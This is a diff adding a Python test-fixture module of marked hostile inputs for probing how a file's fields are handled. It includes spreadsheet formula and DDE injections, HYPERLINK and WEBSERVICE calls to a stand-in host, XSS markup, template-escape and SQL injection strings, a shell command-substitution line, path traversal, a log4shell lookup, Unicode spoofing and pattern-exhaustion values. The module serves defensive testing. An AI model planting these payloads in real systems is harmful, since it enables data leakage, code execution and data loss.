@@ -1,0 +1,121 @@
+r"""Texts that would do harm in a careless place: each is put into every text field and header of a file.
+
+Each that could run sets `window.hostile`, asks a host that is not there, or opens a dialog, so that a page can be asked
+whether anything did. Each holds MARK, so that messages and log lines can be searched.
+"""
+
+from typing import Final
+
+MARK: Final = "HOSTILE"
+RUN: Final = "window.hostile=1;alert('HOSTILE')"
+
+FORMULAS: Final = {
+    "formula equals": "=1+1&HOSTILE",
+    "formula plus": "+1+HOSTILE",
+    "formula minus": "-1+HOSTILE",
+    "formula at": "@SUM(HOSTILE)",
+    "formula tab": "\t=HOSTILE",
+    "formula carriage return": "\r=HOSTILE",
+    "formula line feed": "\n=HOSTILE",
+    "formula no-break space": "\u00a0=HOSTILE",
+    "formula space": "  =HOSTILE",
+    "formula full width equals": "\uff1dHOSTILE",
+    "formula full width plus": "\uff0bHOSTILE",
+    "formula full width minus": "\uff0dHOSTILE",
+    "formula full width at": "\uff20HOSTILE",
+    "formula zero width": "\u200b=HOSTILE",
+    "formula DDE": "=cmd|'/c calc HOSTILE'!A1",
+    "formula DDE plus": "+cmd|'/c calc HOSTILE'!A1",
+    "formula hyperlink": '=HYPERLINK("http://hostile.invalid/?"&A1,"HOSTILE")',
+    "formula webservice": '=WEBSERVICE("http://hostile.invalid/HOSTILE")',
+    "formula importxml": '=IMPORTXML("http://hostile.invalid/HOSTILE","//a")',
+    "formula quoted": '"=HOSTILE"',
+    "formula forced text": '="=HOSTILE"',
+}
+MARKUP: Final = {
+    "script": f"<script>{RUN}</script>",
+    "script end": f"</script><script>{RUN}</script>",
+    "script upper case": f"</SCRIPT ><ScRiPt>{RUN}</sCrIpT>",
+    "image handler": f'<img src=x onerror="{RUN}">',
+    "svg handler": f'<svg/onload="{RUN}">HOSTILE',
+    "svg animate": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
+    "mathml": '<math><mtext><mglyph><style><img src=x onerror="window.hostile=1">HOSTILE',
+    "details handler": f'<details open ontoggle="{RUN}">HOSTILE',
+    "frame": '<iframe srcdoc="<script>parent.hostile=1</script>">HOSTILE</iframe>',
+    "javascript link": '<a href="javascript:window.hostile=1">HOSTILE</a>',
+    "base": '<base href="http://hostile.invalid/">HOSTILE',
+    "refresh": '<meta http-equiv=refresh content="0;url=http://hostile.invalid/">HOSTILE',
+    "style import": "<style>@import 'http://hostile.invalid/x.css';</style>HOSTILE",
+    "form": '<form action="http://hostile.invalid/"><input name=HOSTILE autofocus onfocus="window.hostile=1"></form>',
+    "attribute break double": f'" onmouseover="{RUN}" x="HOSTILE',
+    "attribute break single": "' onmouseover='window.hostile=1' x='HOSTILE",
+    "attribute break back tick": "`onmouseover=window.hostile=1 HOSTILE",
+    "comment end": f"--><script>{RUN}</script>",
+    "CDATA end": f"]]><script>{RUN}</script>",
+    "title end": f"</title></style></textarea><script>{RUN}</script>",
+    "script comment": "<!--<script>HOSTILE",
+    "entity": "&lt;script&gt;window.hostile=1&lt;/script&gt; HOSTILE",
+    "entity numeric": "&#60;img src=x onerror=window.hostile=1&#62; HOSTILE",
+    "clobber": "<a id=planner><a id=planner name=open href=x>HOSTILE</a>",
+}
+TEMPLATES: Final = {
+    "jinja expression": "{{7*7}} HOSTILE",
+    "jinja reach": "{{ ''.__class__.__mro__[1].__subclasses__() }} HOSTILE",
+    "jinja statement": "{% for x in ().__class__.__base__.__subclasses__() %}HOSTILE{% endfor %}",
+    "jinja raw": "{% raw %} HOSTILE {# a comment",
+    "script template": "`${window.hostile=1}` HOSTILE",
+    "script string": '";window.hostile=1;//HOSTILE',
+    "script back slash": '\\";window.hostile=1;//HOSTILE',
+    "script line separator": "\u2028window.hostile=1\u2029//HOSTILE",
+    "angular": "{{constructor.constructor('window.hostile=1')()}} HOSTILE",
+    "markdown link": "[HOSTILE](javascript:window.hostile=1)",
+    "markdown image": "![HOSTILE](http://hostile.invalid/x.png)",
+    "markdown code": "```\nHOSTILE\n``` :red[HOSTILE] :material/home: $\\HOSTILE$",
+    "streamlit badge": ":red-background[HOSTILE] # HOSTILE",
+    "format braces": "{0.__class__} {HOSTILE} {}",
+    "format percent": "%s%n%x%(HOSTILE)s %",
+    "shell": "$(touch HOSTILE) `touch HOSTILE`; touch HOSTILE | cat",
+    "SQL drop": "HOSTILE'; DROP TABLE records; --",
+    "SQL or": "HOSTILE' OR '1'='1",
+    "SQL union": 'HOSTILE") UNION SELECT * FROM safe_places --',
+    "path up": "../../../../etc/HOSTILE",
+    "path Windows": "C:\\Windows\\HOSTILE",
+    "path device": "CON HOSTILE",
+    "log line": "HOSTILE\nERROR forged line\r\nHOSTILE",
+    "log4shell": "${jndi:ldap://hostile.invalid/HOSTILE}",
+    "prototype": "__proto__ HOSTILE",
+}
+LETTERS: Final = {
+    "bidi override": "\u202eHOSTILE gpj.exe\u202c",
+    "bidi isolate": "\u2066HOSTILE\u2069\u061c",
+    "zero width": "HOS\u200bTI\u200cLE\u200d\ufeff HOSTILE",
+    "combining": "H" + "\u0300" * 2_000 + "OSTILE HOSTILE",
+    "long": "HOSTILE " * 4_000,
+    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467 HOSTILE \U000e0041",
+    "private use": "\ue000\uffff\U0010ffff HOSTILE",
+    "not a letter": "\u00ad\u034f\u115f HOSTILE \u3164",
+    "UTF-7": "+ADw-script+AD4-window.hostile=1+ADw-/script+AD4- HOSTILE",
+    "capital that grows": "\u0130\u00df\ufb03 HOSTILE" * 50,
+    "number beyond": "1e400 HOSTILE",
+    "word for nothing": "None NaN null HOSTILE",
+}
+# For columns of postcodes and dates: numbers and texts that make a careless pattern search for ever.
+VALUES: Final = {
+    "postcode of spaces": "SP10" + " " * 50_000 + "!",
+    "postcode of letters": "A" * 50_000,
+    "postcode of digits": "A1" * 25_000,
+    "digits that are none": "\u0661\u0662/\u0660\u0665/\u0662\u0660\u0662\u0664",
+    "day nought": "00/00/0000",
+    "day of year ten thousand": "01/01/10000",
+    "day before all": "0001-01-01",
+    "day of the machine's end": "9999-12-31T23:59:59.999999999Z",
+    "serial day": "1e308",
+    "serial day infinite": "inf",
+    "number beyond": "1e400",
+    "number of 5,000 digits": "9" * 5_000,
+    "number not a number": "NaN",
+    "day of slashes": "1/" * 20_000,
+    "day of zones": "2024-05-14T00:00:00+99:99",
+    "hexadecimal": "0x7fffffffffffffff",
+}
+TEXTS: Final = {**FORMULAS, **MARKUP, **TEMPLATES, **LETTERS}
